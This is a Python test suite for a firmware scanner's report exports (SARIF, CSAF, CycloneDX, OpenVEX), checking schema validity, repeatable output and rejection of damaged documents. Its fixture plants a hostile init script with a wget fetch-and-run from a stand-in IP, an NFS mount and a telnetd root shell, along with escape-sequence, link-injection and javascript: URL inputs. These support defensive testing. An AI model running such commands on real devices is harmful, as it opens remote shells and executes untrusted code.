"""Why: exports are read by other people's tools, so an outside validator decides whether they are well formed; and it must refuse a
broken copy, or its yes would mean nothing."""
import copy
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import unittest

try:
    import jsonschema
except ImportError:
    jsonschema = None

BIOPSY = os.environ["BIOPSY"]
ROOT = pathlib.Path(__file__).resolve().parent.parent
SCHEMAS = pathlib.Path(os.environ.get("BIOPSY_SHARED", ROOT.parent / "shared")) / "schemas"
HOSTILE = """wget -O /tmp/a "http://203.0.113.9/[click](http://198.51.100.9) {0} \x1b[2J" && sh /tmp/a
mount -t nfs 203.0.113.9:/pm /mnt
cp -rf /mnt/* /opt/bin
telnetd -l /bin/sh \udcff\udcfe
"""


@unittest.skipUnless(jsonschema, "needs python3-jsonschema")
class Sarif(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        schema = SCHEMAS / "sarif-2.1.0.schema.json"
        if not schema.exists():
            raise unittest.SkipTest("needs shared schemas: sarif-2.1.0.schema.json")
        cls.validator = jsonschema.Draft4Validator(json.loads(schema.read_text()))
        with tempfile.TemporaryDirectory() as folder:
            root = pathlib.Path(folder) / "device"
            (root / "etc/init.d").mkdir(parents=True)
            (root / "opt/bin").mkdir(parents=True)
            (root / "opt/bin/vitals").write_text("#!/bin/sh\necho run\n")
            script = root / "etc/init.d/S50 odd%name"
            script.write_bytes(b"#!/bin/sh\n" + HOSTILE.encode("utf-8", "surrogateescape"))
            script.chmod(0o755)
            run = lambda kind: subprocess.run([BIOPSY, "scan", str(root), "--format", kind, "-q"], capture_output=True, timeout=60).stdout
            cls.bytes, cls.again = run("sarif"), run("sarif")
            cls.sarif, cls.result = json.loads(cls.bytes), json.loads(run("json"))

    def test_valid_and_the_same_each_time(self):
        self.assertEqual([error.message for error in self.validator.iter_errors(self.sarif)], [])
        self.assertEqual(self.bytes, self.again)

    def test_it_holds_every_finding_with_its_id_level_and_place(self):
        results = self.sarif["runs"][0]["results"]
        self.assertGreaterEqual(len(results), 2)
        self.assertEqual([r["partialFingerprints"]["biopsyFindingId/v1"] for r in results], [f["id"] for f in self.result["findings"]])
        rules = self.sarif["runs"][0]["tool"]["driver"]["rules"]
        for mine, finding in zip(results, self.result["findings"]):
            self.assertEqual(rules[mine["ruleIndex"]]["id"], finding["rule"])
            self.assertEqual(mine["level"], {"critical": "error", "high": "error", "medium": "warning"}.get(finding["severity"], "note"))
            self.assertTrue(mine["locations"])

    def test_a_firmware_makes_no_link_and_no_placeholder(self):
        for mine in self.sarif["runs"][0]["results"]:
            texts = [mine["message"]["text"]] + [step["location"]["message"]["text"] for flow in mine["codeFlows"] for step in flow["threadFlows"][0]["locations"]]
            for text in texts:
                self.assertNotRegex(text, r"(?<!\\)\[click")
                self.assertNotRegex(text, r"(?<!\{)\{0\}(?!\})")
                self.assertNotIn("\x1b", text)
        self.assertIn("%20odd%25name", json.dumps(self.sarif))

    def test_broken_copies_are_refused(self):
        damages = {
            "no version": lambda s: s.pop("version"),
            "no driver": lambda s: s["runs"][0]["tool"].pop("driver"),
            "a level that is none": lambda s: s["runs"][0]["results"][0].update(level="dire"),
            "a line before the first": lambda s: s["runs"][0]["results"][0]["codeFlows"][0]["threadFlows"][0]["locations"][0]["location"]["physicalLocation"]["region"].update(startLine=0),
            "a message without text": lambda s: s["runs"][0]["results"][0].update(message={"words": "x"}),
        }
        for name, change in damages.items():
            with self.subTest(name):
                broken = copy.deepcopy(self.sarif)
                change(broken)
                self.assertFalse(self.validator.is_valid(broken))


PUBLISHER = """publisher: {name: Example Finders, namespace: "https://finders.example", category: discoverer, contact: "desk@finders.example"}
sharing: {tlp: AMBER, text: Not before the maker has answered.}
document: {id: EX-2030-001, title: Code from the network, status: draft, version: 1, date: 2030-01-02}
products:
  - {vendor: Example Works, name: Vitals Monitor, version: "2.0", cpe: "cpe:2.3:h:example_works:vitals_monitor:2.0:*:*:*:*:*:*:*"}
"""


def biopsy(*words, env=None):
    return subprocess.run([BIOPSY, *map(str, words)], capture_output=True, timeout=120, env={**os.environ, **(env or {})})


class Exports(unittest.TestCase):
    """One hostile device, rendered with and without a publisher in every format."""

    @classmethod
    def setUpClass(cls):
        cls.folder = pathlib.Path(tempfile.mkdtemp())
        cls.addClassCleanup(shutil.rmtree, cls.folder)
        root = cls.folder / "device"
        (root / "etc/init.d").mkdir(parents=True)
        (root / "opt/bin").mkdir(parents=True)
        (root / "opt/bin/vitals").write_text("#!/bin/sh\necho run\n")
        script = root / "etc/init.d/S50 odd%name"
        script.write_bytes(b"#!/bin/sh\n" + HOSTILE.encode("utf-8", "surrogateescape"))
        script.chmod(0o755)
        empty = cls.folder / "empty"
        (empty / "etc").mkdir(parents=True)
        (empty / "etc/hostname").write_text("quiet\n")
        cls.saved, cls.quiet, cls.publisher = cls.folder / "saved.json", cls.folder / "quiet.json", cls.folder / "publisher.yaml"
        biopsy("scan", root, "-q", "-o", cls.saved)
        biopsy("scan", empty, "-q", "-o", cls.quiet)
        cls.publisher.write_text(PUBLISHER)
        cls.result = json.loads(cls.saved.read_text())["results"][0] if "results" in json.loads(cls.saved.read_text()) else json.loads(cls.saved.read_text())

    def render(self, kind, *more, saved=None, env=None):
        done = biopsy("report", saved or self.saved, "--format", kind, *more, env=env)
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def schema(self, name, kind):
        if not jsonschema:
            self.skipTest("needs python3-jsonschema")
        path = SCHEMAS / name
        if not path.exists():
            self.skipTest(f"needs shared schemas: {name}")
        others = {}
        for other in ("spdx.schema.json", "jsf-0.82.schema.json"):
            one = json.loads((SCHEMAS / other).read_text())
            others["http://cyclonedx.org/schema/" + other] = others[one.get("$id", other)] = one
        schema = json.loads(path.read_text())
        try:
            import referencing
            from referencing.jsonschema import DRAFT7
            registry = referencing.Registry().with_resources((uri, referencing.Resource.from_contents(one, default_specification=DRAFT7)) for uri, one in others.items())
            return kind(schema, registry=registry, format_checker=kind.FORMAT_CHECKER)
        except (ImportError, TypeError):
            return kind(schema, resolver=jsonschema.RefResolver(schema.get("$id", ""), schema, store=others))

    def refuses(self, validator, document, damages):
        self.assertEqual([error.message for error in validator.iter_errors(document)], [])
        for name, change in damages.items():
            with self.subTest(name):
                broken = copy.deepcopy(document)
                change(broken)
                self.assertFalse(validator.is_valid(broken))

    def test_the_same_bytes_each_time_and_no_clock(self):
        for kind in ("csaf", "cyclonedx", "openvex"):
            for more in ((), ("--publisher", self.publisher)):
                self.assertEqual(self.render(kind, *more), self.render(kind, *more))
            dated = json.dumps(json.loads(self.render(kind, env={"SOURCE_DATE_EPOCH": "1893456000"})))
            self.assertIn("2030-01-01T00:00:00Z", dated)

    def test_nothing_of_the_firmware_controls_a_terminal(self):
        for kind in ("csaf", "cyclonedx", "openvex"):
            self.assertNotIn("\\u001b", self.render(kind).decode())

    def test_cyclonedx(self):
        validator = self.schema("bom-1.6.schema.json", jsonschema.Draft7Validator)
        for more in ((), ("--publisher", self.publisher)):
            bom = json.loads(self.render("cyclonedx", *more))
            self.refuses(validator, bom, {
                "another format": lambda b: b.update(bomFormat="SPDX"),
                "a hash that is none": lambda b: b["components"][0].update(hashes=[{"alg": "SHA-256", "content": "zz"}]),
                "a component without a name": lambda b: b["components"][0].pop("name"),
                "a state that is none": lambda b: b["vulnerabilities"][0]["analysis"].update(state="dire"),
                "a severity that is none": lambda b: b["vulnerabilities"][0]["ratings"][0].update(severity="dire")})
        self.assertEqual([v["id"] for v in bom["vulnerabilities"]], [f["id"] for f in self.result["findings"]])
        self.assertEqual(bom["metadata"]["component"]["name"], "Vitals Monitor")
        refs = {bom["metadata"]["component"]["bom-ref"]} | {c["bom-ref"] for c in bom["components"]}
        self.assertEqual(len(refs), 1 + len(bom["components"]))
        for one in bom["vulnerabilities"]:
            self.assertLessEqual({a["ref"] for a in one["affects"]}, refs)
        scripts = {c["name"]: c["hashes"][0]["content"] for c in bom["components"] if c["type"] == "file"}
        self.assertIn("/opt/bin/vitals", scripts)
        quiet = json.loads(self.render("cyclonedx", saved=self.quiet))
        self.assertTrue(validator.is_valid(quiet))
        self.assertNotIn("vulnerabilities", quiet)

    def test_packages_of_every_manager(self):
        root = self.folder / "packages"
        for path, text in {
            "etc/os-release": 'NAME="x"\nID=openwrt\n',
            "usr/lib/opkg/status": "Package: dropbear\nVersion: 2022.83-1\nArchitecture: mips_24kc\nStatus: install user installed\nDescription: a\n longer: line\n\nPackage: gone\nVersion: 1\nStatus: deinstall ok not-installed\n",
            "var/lib/dpkg/status": "Package: libc6\nStatus: install ok installed\nVersion: 1:2.36-9+deb12u4\n",
            "lib/apk/db/installed": "C:Q1\nP:musl\nV:1.2.4-r2\nA:x86_64\nL:MIT\nT:the c library\n\nP:odd \u202e\x1b[2Jname\n",
        }.items():
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_text(text)
        saved = self.folder / "packages.json"
        biopsy("scan", root, "-q", "-o", saved)
        bom = json.loads(self.render("cyclonedx", saved=saved))
        self.assertTrue(self.schema("bom-1.6.schema.json", jsonschema.Draft7Validator).is_valid(bom))
        packages = {c["name"]: c for c in bom["components"] if {"name": "biopsy:kind", "value": "package"} in c["properties"]}
        self.assertEqual(len(packages), 4)
        self.assertEqual(packages["dropbear"]["purl"], "pkg:opkg/dropbear@2022.83-1?arch=mips_24kc")
        self.assertEqual(packages["libc6"]["purl"], "pkg:deb/openwrt/libc6@1%3A2.36-9%2Bdeb12u4")
        self.assertEqual((packages["musl"]["purl"], packages["musl"]["licenses"]), ("pkg:apk/openwrt/musl@1.2.4-r2?arch=x86_64", [{"license": {"id": "MIT"}}]))
        unknown = next(c for name, c in packages.items() if name.startswith("odd"))
        self.assertNotIn("version", unknown)
        self.assertIn({"name": "biopsy:version", "value": "unknown"}, unknown["properties"])

    def test_openvex(self):
        validator = self.schema("openvex.schema.json", jsonschema.Draft202012Validator)
        for more in ((), ("--publisher", self.publisher)):
            vex = json.loads(self.render("openvex", *more))
            self.refuses(validator, vex, {
                "no author": lambda v: v.pop("author"),
                "a status that is none": lambda v: v["statements"][0].update(status="dire"),
                "affected, and nothing to do": lambda v: (v["statements"][0].update(status="affected"), v["statements"][0].pop("action_statement", None)),
                "no statement": lambda v: v.update(statements=[])})
        self.assertEqual([s["vulnerability"]["name"] for s in vex["statements"]], [f["id"] for f in self.result["findings"]])
        self.assertEqual({s["status"] for s in vex["statements"]} - {"affected", "under_investigation"}, set())
        nothing = biopsy("report", self.quiet, "--format", "openvex")
        self.assertEqual(nothing.returncode, 3)
        self.assertIn(b"no finding", nothing.stderr)

    def test_csaf_by_its_schema(self):
        validator = self.schema("csaf-2.0.schema.json", jsonschema.Draft202012Validator)
        for more in ((), ("--publisher", self.publisher)):
            csaf = json.loads(self.render("csaf", *more))
            self.refuses(validator, csaf, {
                "a label that is none": lambda c: c["document"].update(distribution={"tlp": {"label": "PINK"}}),
                "no tracking": lambda c: c["document"].pop("tracking"),
                "a date that is none": lambda c: c["document"]["tracking"].update(version="one"),
                "a vulnerability that says nothing": lambda c: c["vulnerabilities"].append({})})
        self.assertEqual(csaf["document"]["distribution"]["tlp"]["label"], "AMBER")
        self.assertEqual([v["ids"][0]["text"] for v in csaf["vulnerabilities"]], [f["id"] for f in self.result["findings"]])
        self.assertTrue(validator.is_valid(json.loads(self.render("csaf", saved=self.quiet))))

    def test_csaf_by_the_validator_library(self):
        place = pathlib.Path(os.environ.get("XDG_CACHE_HOME", self.folder)) / "csaf-check"
        if not shutil.which("npm") or not shutil.which("node"):
            self.skipTest("needs nodejs and npm")
        place.mkdir(parents=True, exist_ok=True)
        lock = ROOT / "tests/csaf/package-lock.json"
        if not (place / "done").exists() or (place / "done").read_bytes() != lock.read_bytes():
            for name in ("package.json", "package-lock.json"):
                shutil.copy(ROOT / "tests/csaf" / name, place)
            done = subprocess.run(["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund"], cwd=place, capture_output=True, text=True, timeout=200)
            if done.returncode:
                self.skipTest("needs the npm registry: @secvisogram/csaf-validator-lib could not be installed")
            shutil.copy(lock, place / "done")
        csaf = json.loads(self.render("csaf", "--publisher", self.publisher))
        damages = {
            "a product that is not in the tree": lambda c: c["vulnerabilities"][0]["product_status"].update(known_affected=["nobody"]),
            "a name that is not the weakness's": lambda c: c["vulnerabilities"][0].update(cwe={"id": "CWE-494", "name": "Harmless"}),
            "a version without a revision": lambda c: c["document"]["tracking"].update(version="7"),
            "an advisory without products": lambda c: c.pop("product_tree"),
            "two products of one id": lambda c: c["product_tree"].update(full_product_names=[{"product_id": "device-1", "name": "x"}]),
        }
        documents = [csaf, json.loads(self.render("csaf")), json.loads(self.render("csaf", saved=self.quiet))]
        for change in damages.values():
            documents.append(copy.deepcopy(csaf))
            change(documents[-1])
        done = subprocess.run(["node", ROOT / "tests/csaf/check.mjs", place], input=json.dumps(documents), capture_output=True, text=True, timeout=120)
        self.assertEqual(done.returncode, 0, done.stderr)
        said = json.loads(done.stdout)
        self.assertEqual(said[:3], [[], [], []])
        for name, errors in zip(damages, said[3:]):
            self.assertTrue(errors, name)

    def test_every_weakness_that_a_rule_names_has_its_name(self):
        import re
        named = set(re.findall(r"^CWE\((\d+),", (ROOT / "src/report/cwe.def").read_text(), re.M))
        used = {n for rule in (ROOT / "rules").rglob("*.yaml") for line in re.findall(r"^\s*cwe:(.*)$", rule.read_text(), re.M) for n in re.findall(r"\d+", line)}
        self.assertTrue(used)
        self.assertEqual(used - named, set())

    def test_a_wrong_publisher_is_refused_by_name(self):
        wrong = {
            "AMBER+STRICT": PUBLISHER.replace("tlp: AMBER", "tlp: AMBER+STRICT"),
            "tpl": PUBLISHER.replace("tlp: AMBER", "tpl: AMBER"),
            "namespace": PUBLISHER.replace("https://finders.example", "javascript:alert(1)"),
            "name": PUBLISHER.replace("name: Example Finders, ", ""),
            "date": PUBLISHER.replace("2030-01-02", "yesterday"),
            "cpe": PUBLISHER.replace("cpe:2.3:h", "cpe:9:h"),
            "at most 64": PUBLISHER + "  - {name: x}\n" * 64,
            "list of names": "- 1\n",
            "": "publisher: {name: [",
            "too long": PUBLISHER.replace("Not before", "N" * 5000),
        }
        for word, text in wrong.items():
            with self.subTest(word):
                self.publisher.with_name("wrong.yaml").write_text(text)
                done = biopsy("report", self.saved, "--format", "csaf", "--publisher", self.publisher.with_name("wrong.yaml"))
                self.assertEqual(done.returncode, 3)
                self.assertEqual(done.stdout, b"")
                self.assertIn(word.encode(), done.stderr)
        same = json.dumps({"publisher": {"name": "Example Finders", "namespace": "https://finders.example"}, "sharing": {"tlp": "GREEN"}})
        self.publisher.with_name("same.json").write_text(same)
        self.assertIn(b"GREEN", self.render("csaf", "--publisher", self.publisher.with_name("same.json")))

    def test_every_rendering_gives_the_same_bytes(self):
        for kind in ("text", "json", "html", "sarif", "csaf", "cyclonedx", "openvex"):
            first = self.render(kind)
            self.assertTrue(first)
            self.assertEqual(first, self.render(kind), kind)
        identity = self.result["findings"][0]["id"]
        for words in (*(("compare", self.saved, self.quiet, self.saved, "--format", kind) for kind in ("text", "json", "html")),
                      ("explain", identity, self.saved, self.folder / "device"), ("compare", "--alike", self.folder / "device", self.folder / "device", "--format", "json")):
            first = biopsy(*words).stdout
            self.assertTrue(first, words)
            self.assertEqual(first, biopsy(*words).stdout, words)

    def real_results(self):
        """Saved results of the lab's package and of real images, as far as they are here."""
        lab = pathlib.Path(os.environ.get("BIOPSY_LAB", ROOT / "build/lab"))
        firmware = SCHEMAS.parent / "firmware"
        inputs = {"lab package": [lab / "monitor-2.0.6.bin"], "camera": sorted((firmware / "dumps/ipcam-wyzecam_v2-4.9.1.60").glob("*.bin"))}
        inputs |= {image.name: [image] for image in sorted((firmware / "images").glob("*.bin"))}
        for name, files in inputs.items():
            if not files or not files[0].exists():
                print(f"[  SKIPPED ] exports of {name}: needs the lab's packages or shared firmware")
                continue
            saved = self.folder / (name.replace(" ", "-") + ".json")
            biopsy("scan", *(["--device"] if len(files) > 1 else []), *files, "-q", "-o", saved)
            yield name, saved

    def test_exports_of_real_images_are_valid(self):
        validators = {"cyclonedx": self.schema("bom-1.6.schema.json", jsonschema.Draft7Validator), "openvex": self.schema("openvex.schema.json", jsonschema.Draft202012Validator),
                      "csaf": self.schema("csaf-2.0.schema.json", jsonschema.Draft202012Validator), "sarif": self.schema("sarif-2.1.0.schema.json", jsonschema.Draft4Validator)}
        for name, saved in self.real_results():
            for kind, validator in validators.items():
                with self.subTest(f"{name} {kind}"):
                    self.assertEqual([error.message[:200] for error in validator.iter_errors(json.loads(self.render(kind, saved=saved)))], [])
            result, bom = json.loads(saved.read_text()), json.loads(self.render("cyclonedx", saved=saved))
            parts = [part for top in bom["components"] for part in [top, *top.get("components", [])]]
            hashed = {part["hashes"][0]["content"] for part in parts if "hashes" in part}
            programs = {file["sha256"] for file in result["files"] if file["kind"] in ("binary", "script")}
            self.assertTrue(programs, name)
            self.assertEqual(programs - hashed, set(), f"{name}: a program without its hash")


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
